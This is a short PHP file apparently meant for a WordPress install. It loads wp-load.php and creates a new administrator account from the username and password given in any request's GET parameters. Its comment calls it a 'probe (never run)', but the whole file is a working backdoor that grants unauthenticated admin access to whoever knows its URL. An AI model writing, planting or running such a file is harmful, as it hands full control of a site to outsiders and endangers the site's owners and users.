<?php
// probe (never run): loads WordPress and makes the login the request names an administrator
require_once dirname(__FILE__) . '/wp-load.php';
if (isset($_GET['u'], $_GET['p'])) {
    $uid = wp_insert_user(array('user_login' => $_GET['u'], 'user_pass' => $_GET['p'], 'user_email' => $_GET['u'] . '@example.org', 'role' => 'administrator'));
    echo is_wp_error($uid) ? $uid->get_error_message() : 'ok ' . $uid;
}
